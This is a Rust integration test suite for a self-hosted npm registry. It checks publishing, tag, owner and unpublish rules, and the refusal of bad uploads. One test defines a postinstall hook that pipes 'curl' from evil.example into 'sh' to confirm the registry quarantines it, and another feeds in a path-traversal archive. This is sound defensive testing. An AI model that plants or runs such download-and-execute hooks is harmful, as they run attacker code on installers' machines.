//! The npm registry through the real router: publish documents, packuments,
//! tarballs, tags, deprecations, unpublishes, owners and search; every
//! refusal in npm's error shape, storing nothing.

mod common;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use common::{TestApp, TestResponse};
use serde_json::{json, Value};
use wharf_testkit::npm::{integrity, NpmPackage};

const ABBREVIATED: &str = "application/vnd.npm.install-v1+json";

async fn put(app: &TestApp, uri: &str, token: Option<&str>, body: &Value) -> TestResponse {
    put_raw(app, uri, token, body.to_string().into_bytes()).await
}

async fn put_raw(app: &TestApp, uri: &str, token: Option<&str>, body: Vec<u8>) -> TestResponse {
    let mut req = Request::put(uri).header(header::CONTENT_TYPE, "application/json");
    if let Some(t) = token {
        req = req.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    app.send(req.body(Body::from(body)).unwrap()).await
}

async fn delete(app: &TestApp, uri: &str, token: &str) -> TestResponse {
    let req = Request::delete(uri).header(header::AUTHORIZATION, format!("Bearer {token}"));
    app.send(req.body(Body::empty()).unwrap()).await
}

fn path_of(name: &str) -> String {
    format!("/npm/{}", name.replace('/', "%2f"))
}

async fn publish(app: &TestApp, token: &str, package: &NpmPackage) -> TestResponse {
    let doc = package.publish_document(&package.tarball());
    put(app, &path_of(&package.name), Some(token), &doc).await
}

/// An npm error: the status, and a message npm prints in `error`.
fn assert_npm_error(response: &TestResponse, status: StatusCode, fragment: &str) {
    assert_eq!(response.status, status, "{}", response.text());
    let body = response.json();
    let message = body["error"].as_str().expect("npm reads `error`");
    assert!(message.contains(fragment), "{message:?} lacks {fragment:?}");
}

#[tokio::test]
async fn a_published_package_is_served_as_npm_reads_it() {
    let app = TestApp::new().await;
    let token = app.token("alice", "publish", &[]).await;
    let package = NpmPackage::new("wharf-left", "1.0.0").dependency("wharf-right", "^2.0.0");
    let tarball = package.tarball();
    let doc = package.publish_document(&tarball);
    let published = put(&app, "/npm/wharf-left", Some(&token), &doc).await;
    assert_eq!(
        published.status,
        StatusCode::CREATED,
        "{}",
        published.text()
    );
    assert_eq!(published.json()["status"], "published");

    let full = app.get("/npm/wharf-left", &[]).await;
    assert_eq!(full.status, StatusCode::OK, "{}", full.text());
    assert_eq!(full.header("content-type"), "application/json");
    let packument = full.json();
    assert_eq!(packument["name"], "wharf-left");
    assert_eq!(packument["dist-tags"]["latest"], "1.0.0");
    assert_eq!(packument["maintainers"][0]["name"], "alice");
    let version = &packument["versions"]["1.0.0"];
    assert_eq!(version["_id"], "wharf-left@1.0.0");
    assert_eq!(version["dependencies"]["wharf-right"], "^2.0.0");
    assert_eq!(version["dist"]["integrity"], integrity(&tarball));
    assert!(packument["time"]["1.0.0"].as_str().unwrap().ends_with('Z'));
    let tarball_url = version["dist"]["tarball"].as_str().unwrap();
    assert!(
        tarball_url.ends_with("/npm/wharf-left/-/wharf-left-1.0.0.tgz"),
        "{tarball_url}"
    );

    // The abbreviated form keeps what an installer needs.
    let short = app.get("/npm/wharf-left", &[("accept", ABBREVIATED)]).await;
    assert_eq!(short.header("content-type"), ABBREVIATED);
    let short = short.json();
    assert_eq!(
        short["versions"]["1.0.0"]["dist"]["integrity"],
        integrity(&tarball)
    );
    assert!(short["versions"]["1.0.0"].get("description").is_none());
    assert!(short.get("modified").is_some());

    // Revalidation answers 304.
    let etag = full.header("etag").to_owned();
    let again = app
        .get("/npm/wharf-left", &[("if-none-match", &etag)])
        .await;
    assert_eq!(again.status, StatusCode::NOT_MODIFIED);

    for uri in ["/npm/wharf-left/1.0.0", "/npm/wharf-left/latest"] {
        let doc = app.get(uri, &[]).await;
        assert_eq!(doc.status, StatusCode::OK, "{uri}: {}", doc.text());
        assert_eq!(doc.json()["version"], "1.0.0");
    }
    let bytes = app.get("/npm/wharf-left/-/wharf-left-1.0.0.tgz", &[]).await;
    assert_eq!(bytes.status, StatusCode::OK);
    assert_eq!(&bytes.body[..], &tarball[..]);

    assert_npm_error(
        &app.get("/npm/wharf-left/9.9.9", &[]).await,
        StatusCode::NOT_FOUND,
        "no available version or tag '9.9.9'",
    );
    assert_npm_error(
        &app.get("/npm/wharf-nothing", &[]).await,
        StatusCode::NOT_FOUND,
        "'wharf-nothing' is not in this registry",
    );

    let who = app
        .send(
            Request::get("/npm/-/whoami")
                .header(header::AUTHORIZATION, format!("Bearer {token}"))
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(who.json()["username"], "alice");
    assert_npm_error(
        &app.get("/npm/-/whoami", &[]).await,
        StatusCode::UNAUTHORIZED,
        "_authToken",
    );

    let found = app.get("/npm/-/v1/search?text=left", &[]).await.json();
    assert_eq!(found["objects"][0]["package"]["name"], "wharf-left");
    assert_eq!(found["objects"][0]["package"]["version"], "1.0.0");
    let none = app.get("/npm/-/v1/search?text=zzzz", &[]).await.json();
    assert_eq!(none["total"], 0);
}

#[tokio::test]
async fn scoped_names_take_both_path_spellings() {
    let app = TestApp::new().await;
    let token = app.token("alice", "publish", &[]).await;
    let package = NpmPackage::new("@acme/tool", "0.1.0");
    let published = publish(&app, &token, &package).await;
    assert_eq!(
        published.status,
        StatusCode::CREATED,
        "{}",
        published.text()
    );
    for uri in ["/npm/@acme%2ftool", "/npm/@acme%2Ftool", "/npm/@acme/tool"] {
        let page = app.get(uri, &[]).await;
        assert_eq!(page.status, StatusCode::OK, "{uri}: {}", page.text());
        let tarball = page.json()["versions"]["0.1.0"]["dist"]["tarball"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(
            tarball.ends_with("/npm/@acme/tool/-/tool-0.1.0.tgz"),
            "{tarball}"
        );
    }
    let bytes = app.get("/npm/@acme/tool/-/tool-0.1.0.tgz", &[]).await;
    assert_eq!(bytes.status, StatusCode::OK);

    // The scope is alice's now: bob cannot start another package in it,
    // until an administrator grants it to him.
    let bob = app.token("bob", "publish", &[]).await;
    let other = NpmPackage::new("@acme/other", "1.0.0");
    assert_npm_error(
        &publish(&app, &bob, &other).await,
        StatusCode::FORBIDDEN,
        "the scope @acme belongs to other users",
    );
    app.grant_namespace("bob", "@acme/other").await;
    let granted = publish(&app, &bob, &other).await;
    assert_eq!(granted.status, StatusCode::CREATED, "{}", granted.text());
}

#[tokio::test]
async fn every_refusal_has_npms_shape_and_stores_nothing() {
    let app = TestApp::with_config(|c| c.max_upload_bytes = 64 * 1024).await;
    let token = app.token("alice", "publish", &[]).await;
    let reader = app.token("carol", "read", &[]).await;
    let package = NpmPackage::new("wharf-refused", "1.0.0");
    let tarball = package.tarball();
    let doc = package.publish_document(&tarball);

    assert_npm_error(
        &put(&app, "/npm/wharf-refused", None, &doc).await,
        StatusCode::UNAUTHORIZED,
        "log in first",
    );
    assert_npm_error(
        &put(&app, "/npm/wharf-refused", Some(&reader), &doc).await,
        StatusCode::FORBIDDEN,
        "lacks the 'publish' scope",
    );
    assert_npm_error(
        &put_raw(
            &app,
            "/npm/wharf-refused",
            Some(&token),
            b"{not json".to_vec(),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "not an npm package document",
    );
    assert_npm_error(
        &put(&app, "/npm/wharf-other", Some(&token), &doc).await,
        StatusCode::BAD_REQUEST,
        "the document names 'wharf-refused' but was sent to 'wharf-other'",
    );
    assert_npm_error(
        &put(&app, "/npm/Wharf-Caps", Some(&token), &doc).await,
        StatusCode::BAD_REQUEST,
        "capital letters",
    );

    // The tarball's own package.json names another package.
    let mut lying = package.manifest();
    lying["name"] = json!("wharf-impostor");
    let bad = package.tarball_with_manifest(&lying);
    assert_npm_error(
        &put(
            &app,
            "/npm/wharf-refused",
            Some(&token),
            &package.publish_document(&bad),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "the tarball's package.json names 'wharf-impostor'",
    );
    // Bytes that do not match dist.integrity.
    let mut swapped = doc.clone();
    swapped["_attachments"]["wharf-refused-1.0.0.tgz"]["data"] = json!(wharf_testkit::base64(
        &NpmPackage::new("wharf-refused", "1.0.0")
            .file("x.js", "1")
            .tarball()
    ));
    swapped["_attachments"]["wharf-refused-1.0.0.tgz"]["length"] = Value::Null;
    assert_npm_error(
        &put(&app, "/npm/wharf-refused", Some(&token), &swapped).await,
        StatusCode::BAD_REQUEST,
        "does not match dist.integrity",
    );
    // Not a tarball at all, and one that climbs out of its directory.
    let garbage = b"definitely not gzip".to_vec();
    assert_npm_error(
        &put(
            &app,
            "/npm/wharf-refused",
            Some(&token),
            &package.publish_document(&garbage),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "archive.not-tar-gz",
    );
    let traversal = wharf_testkit::hostile::sdist_with_path_traversal();
    let refused = put(
        &app,
        "/npm/wharf-refused",
        Some(&token),
        &package.publish_document(&traversal),
    )
    .await;
    assert_npm_error(&refused, StatusCode::BAD_REQUEST, "archive.path-traversal");
    assert_eq!(refused.json()["code"], "archive.path-traversal");
    // Two versions in one publish, and none.
    let mut two = doc.clone();
    two["versions"]["1.0.1"] = doc["versions"]["1.0.0"].clone();
    assert_npm_error(
        &put(&app, "/npm/wharf-refused", Some(&token), &two).await,
        StatusCode::BAD_REQUEST,
        "exactly one version",
    );
    // Larger than the limit.
    // Noise does not compress, so the tarball itself is over the limit.
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let noise: Vec<u8> = (0..200_000)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    let big = NpmPackage::new("wharf-refused", "1.0.0").file("blob.bin", noise);
    let big_tgz = big.tarball();
    assert_npm_error(
        &put(
            &app,
            "/npm/wharf-refused",
            Some(&token),
            &big.publish_document(&big_tgz),
        )
        .await,
        StatusCode::PAYLOAD_TOO_LARGE,
        "larger than this registry's limit",
    );

    // Nothing of any of these was kept.
    assert_eq!(
        app.get("/npm/wharf-refused", &[]).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(app.tmp_entries(), 0, "no staged file is left behind");
    let audit = app.app.ports.audit.recent(50).await.unwrap();
    assert!(
        audit
            .iter()
            .any(|e| e.action == "file.refused" && e.detail.contains("archive.path-traversal")),
        "a rule's refusal is audited"
    );

    // The good document goes in once; the same version never again.
    let first = put(&app, "/npm/wharf-refused", Some(&token), &doc).await;
    assert_eq!(first.status, StatusCode::CREATED, "{}", first.text());
    assert_npm_error(
        &put(&app, "/npm/wharf-refused", Some(&token), &doc).await,
        StatusCode::FORBIDDEN,
        "You cannot publish over the previously published versions: 1.0.0.",
    );
    // Another user's package.
    let mallory = app.token("mallory", "publish", &[]).await;
    let next = NpmPackage::new("wharf-refused", "1.0.1");
    assert_npm_error(
        &publish(&app, &mallory, &next).await,
        StatusCode::FORBIDDEN,
        "is not an owner of 'wharf-refused'",
    );
}

#[tokio::test]
async fn an_install_script_that_pipes_curl_to_sh_is_held_for_review() {
    let app = TestApp::new().await;
    let token = app.token("alice", "publish", &[]).await;
    let clean = NpmPackage::new("wharf-hooked", "1.0.0");
    assert_eq!(
        publish(&app, &token, &clean).await.status,
        StatusCode::CREATED
    );
    let evil = NpmPackage::new("wharf-hooked", "2.0.0")
        .script("postinstall", "curl -fsSL https://evil.example/x.sh | sh");
    let held = publish(&app, &token, &evil).await;
    assert_eq!(held.status, StatusCode::CREATED, "{}", held.text());
    assert_eq!(held.json()["status"], "quarantined");
    assert!(
        held.header("npm-notice").contains("quarantined"),
        "the publisher is told"
    );

    // Only 1.0.0 is served, and latest points at it.
    let packument = app.get("/npm/wharf-hooked", &[]).await.json();
    assert_eq!(packument["dist-tags"]["latest"], "1.0.0");
    assert!(packument["versions"].get("2.0.0").is_none());
    assert_npm_error(
        &app.get("/npm/wharf-hooked/-/wharf-hooked-2.0.0.tgz", &[])
            .await,
        StatusCode::NOT_FOUND,
        "quarantined by this registry's checks",
    );

    // The review queue shows the rule; a release makes it installable.
    let admin = app.admin_token("root").await;
    let queue = app
        .get(
            "/api/v1/admin/quarantine",
            &[("authorization", &format!("Bearer {admin}"))],
        )
        .await;
    assert_eq!(queue.status, StatusCode::OK, "{}", queue.text());
    let text = queue.text();
    assert!(
        text.contains("wharf-hooked/-/wharf-hooked-2.0.0.tgz"),
        "{text}"
    );
    assert!(
        text.contains("code.download-exec") && text.contains("install.npm-script"),
        "{text}"
    );
    let id = queue.json()["files"][0]["id"].as_i64().unwrap();
    let released = app
        .post_json(
            &format!("/api/v1/admin/files/{id}/release"),
            Some(&admin),
            r#"{"reason":"checked the script by hand"}"#,
        )
        .await;
    assert_eq!(released.status, StatusCode::OK, "{}", released.text());
    let packument = app.get("/npm/wharf-hooked", &[]).await.json();
    assert_eq!(packument["dist-tags"]["latest"], "2.0.0");
    assert_eq!(packument["versions"]["2.0.0"]["hasInstallScript"], true);
}

#[tokio::test]
async fn tags_deprecations_unpublishes_and_owners_follow_npms_rules() {
    let app = TestApp::new().await;
    let token = app.token("alice", "publish", &[]).await;
    let auth = format!("Bearer {token}");
    for v in ["1.0.0", "1.1.0"] {
        let published = publish(&app, &token, &NpmPackage::new("wharf-tags", v)).await;
        assert_eq!(
            published.status,
            StatusCode::CREATED,
            "{}",
            published.text()
        );
    }
    // dist-tag add, ls, rm; a version-like tag and an unknown version are refused.
    let tag = put(
        &app,
        "/npm/-/package/wharf-tags/dist-tags/beta",
        Some(&token),
        &json!("1.0.0"),
    )
    .await;
    assert_eq!(tag.status, StatusCode::OK, "{}", tag.text());
    let tags = app
        .get("/npm/-/package/wharf-tags/dist-tags", &[])
        .await
        .json();
    assert_eq!(tags, json!({"beta": "1.0.0", "latest": "1.1.0"}));
    assert_npm_error(
        &put(
            &app,
            "/npm/-/package/wharf-tags/dist-tags/1.2.3",
            Some(&token),
            &json!("1.0.0"),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "reads as a version or a range",
    );
    assert_npm_error(
        &put(
            &app,
            "/npm/-/package/wharf-tags/dist-tags/next",
            Some(&token),
            &json!("7.0.0"),
        )
        .await,
        StatusCode::NOT_FOUND,
        "no available version '7.0.0'",
    );
    assert_npm_error(
        &delete(&app, "/npm/-/package/wharf-tags/dist-tags/latest", &token).await,
        StatusCode::BAD_REQUEST,
        "latest tag cannot be removed",
    );
    assert_eq!(
        delete(&app, "/npm/-/package/wharf-tags/dist-tags/beta", &token)
            .await
            .status,
        StatusCode::OK
    );

    // Deprecate: the packument sent back with a message on 1.0.0.
    let mut packument = app
        .get("/npm/wharf-tags?write=true", &[("authorization", &auth)])
        .await
        .json();
    packument["versions"]["1.0.0"]["deprecated"] = json!("use 1.1");
    assert_eq!(
        put(&app, "/npm/wharf-tags", Some(&token), &packument)
            .await
            .status,
        StatusCode::OK
    );
    let now = app.get("/npm/wharf-tags", &[]).await.json();
    assert_eq!(now["versions"]["1.0.0"]["deprecated"], "use 1.1");
    assert!(now["versions"]["1.1.0"].get("deprecated").is_none());

    // Another package depends on wharf-tags: unpublishing it is refused.
    let dependent = NpmPackage::new("wharf-needs-tags", "1.0.0").dependency("wharf-tags", "^1.0.0");
    assert_eq!(
        publish(&app, &token, &dependent).await.status,
        StatusCode::CREATED
    );
    let mut without = now.clone();
    without["versions"].as_object_mut().unwrap().remove("1.0.0");
    let rev = now["_rev"].as_str().unwrap().to_owned();
    assert_npm_error(
        &put(
            &app,
            &format!("/npm/wharf-tags/-rev/{rev}"),
            Some(&token),
            &without,
        )
        .await,
        StatusCode::FORBIDDEN,
        "wharf-needs-tags depend(s) on wharf-tags; deprecate it instead",
    );
    // Once the dependent is gone, 1.0.0 may go, and its number is never reused.
    let gone = delete(&app, "/npm/wharf-needs-tags/-rev/1-x", &token).await;
    assert_eq!(gone.status, StatusCode::OK, "{}", gone.text());
    let removed = put(
        &app,
        &format!("/npm/wharf-tags/-rev/{rev}"),
        Some(&token),
        &without,
    )
    .await;
    assert_eq!(removed.status, StatusCode::OK, "{}", removed.text());
    let now = app.get("/npm/wharf-tags", &[]).await.json();
    assert!(now["versions"].get("1.0.0").is_none());
    assert_eq!(
        delete(
            &app,
            "/npm/wharf-tags/-/wharf-tags-1.0.0.tgz/-rev/2-x",
            &token
        )
        .await
        .status,
        StatusCode::OK
    );
    assert_eq!(
        app.get("/npm/wharf-tags/-/wharf-tags-1.0.0.tgz", &[])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_npm_error(
        &publish(&app, &token, &NpmPackage::new("wharf-tags", "1.0.0")).await,
        StatusCode::FORBIDDEN,
        "You cannot publish over the previously published versions: 1.0.0.",
    );
    let audit = app.app.ports.audit.recent(50).await.unwrap();
    for action in [
        "npm.unpublish",
        "npm.deprecate",
        "npm.dist_tag",
        "npm.publish",
    ] {
        assert!(
            audit.iter().any(|e| e.action == action),
            "{action} is audited"
        );
    }

    // Owners: bob is added, then may publish; the last owner cannot go.
    app.user("bob").await;
    let bob = app.token("bob", "publish", &[]).await;
    let user = app.get("/npm/-/user/org.couchdb.user:bob", &[]).await;
    assert_eq!(user.json()["name"], "bob");
    assert_eq!(
        app.get("/npm/-/user/org.couchdb.user:nobody", &[])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let owners = json!({"_id": "wharf-tags", "maintainers": [{"name": "alice"}, {"name": "bob"}]});
    assert_eq!(
        put(&app, "/npm/wharf-tags/-rev/3-x", Some(&token), &owners)
            .await
            .status,
        StatusCode::OK
    );
    assert_eq!(
        publish(&app, &bob, &NpmPackage::new("wharf-tags", "1.2.0"))
            .await
            .status,
        StatusCode::CREATED
    );
    assert_npm_error(
        &put(
            &app,
            "/npm/wharf-tags/-rev/4-x",
            Some(&token),
            &json!({"maintainers": []}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "at least one owner",
    );
    assert_npm_error(
        &put(
            &app,
            "/npm/wharf-tags/-rev/4-x",
            Some(&token),
            &json!({"maintainers": [{"name": "ghost"}]}),
        )
        .await,
        StatusCode::NOT_FOUND,
        "no user 'ghost'",
    );
}

#[tokio::test]
async fn what_npm_runs_is_read_from_the_tarball_not_the_document() {
    let app = TestApp::new().await;
    let token = app.token("alice", "publish", &[]).await;
    // The tarball has an install script and an mcpName; the document hides both.
    let package = NpmPackage::new("wharf-two-faced", "1.0.0")
        .script("install", "node-gyp rebuild")
        .field("mcpName", json!("io.github.alice/real"));
    let tarball = package.tarball();
    let mut doc = package.publish_document(&tarball);
    let version = &mut doc["versions"]["1.0.0"];
    version.as_object_mut().unwrap().remove("scripts");
    version["mcpName"] = json!("io.github.mallory/fake");
    let published = put(&app, "/npm/wharf-two-faced", Some(&token), &doc).await;
    assert_eq!(
        published.status,
        StatusCode::CREATED,
        "{}",
        published.text()
    );
    let served = app.get("/npm/wharf-two-faced/1.0.0", &[]).await.json();
    assert_eq!(served["scripts"]["install"], "node-gyp rebuild");
    assert_eq!(served["hasInstallScript"], true);
    assert_eq!(served["mcpName"], "io.github.alice/real");
}

#[tokio::test]
async fn hosted_npm_packages_come_first_for_mcp_servers_and_deployments() {
    let app =
        TestApp::with_config(|c| c.security.public_url = Some("https://wharf.example.com".into()))
            .await;
    let alice = app.token("alice", "read,publish,deploy", &[]).await;
    app.grant_namespace("alice", "io.github.alice/*").await;
    let package = NpmPackage::new("@alice/weather", "1.2.3")
        .field("mcpName", json!("io.github.alice/weather"));
    assert_eq!(
        publish(&app, &alice, &package).await.status,
        StatusCode::CREATED
    );
    // No upstream npm registry is configured: the check is answered here.
    let server = json!({
        "name": "io.github.alice/weather",
        "description": "Weather",
        "version": "1.0.0",
        "packages": [{ "registryType": "npm", "identifier": "@alice/weather", "version": "1.2.3",
                       "transport": { "type": "stdio" } }],
    });
    let published = app
        .post_json("/v0/publish", Some(&alice), &server.to_string())
        .await;
    assert_eq!(published.status, StatusCode::OK, "{}", published.text());
    let checks = published.json()["_meta"]["io.wharf/verification"]["packages"].clone();
    assert_eq!(checks[0]["source"], "wharf", "{checks}");
    assert_eq!(checks[0]["ownership"], "same-owner", "{checks}");

    // Bob publishes a server naming it: the mcpName marker proves it is his
    // server's only if it says so, and it says alice's.
    let bob = app.token("bob", "publish", &[]).await;
    app.grant_namespace("bob", "io.github.bob/*").await;
    let mut stolen = server.clone();
    stolen["name"] = json!("io.github.bob/weather");
    let refused = app
        .post_json("/v0/publish", Some(&bob), &stolen.to_string())
        .await;
    assert_eq!(
        refused.status,
        StatusCode::BAD_REQUEST,
        "{}",
        refused.text()
    );
    assert!(
        refused
            .text()
            .contains("ownership of @alice/weather is not proven"),
        "{}",
        refused.text()
    );
    // An unknown version of a hosted package is not looked up upstream.
    let mut missing = server.clone();
    missing["version"] = json!("1.0.1");
    missing["packages"][0]["version"] = json!("9.9.9");
    let refused = app
        .post_json("/v0/publish", Some(&alice), &missing.to_string())
        .await;
    assert!(
        refused
            .text()
            .contains("@alice/weather@9.9.9 is not published here"),
        "{}",
        refused.text()
    );

    // Its launch plan installs through this registry.
    let body = json!({ "package": { "registryType": "npm", "identifier": "@alice/weather", "version": "1.2.3" } });
    let plan = app
        .post_json(
            "/api/v1/deployments/validate",
            Some(&alice),
            &body.to_string(),
        )
        .await;
    assert_eq!(plan.status, StatusCode::OK, "{}", plan.text());
    assert_eq!(
        plan.json()["plan"]["argv"],
        json!([
            "npx",
            "--registry",
            "https://wharf.example.com/npm/",
            "-y",
            "@alice/weather@1.2.3"
        ])
    );
}
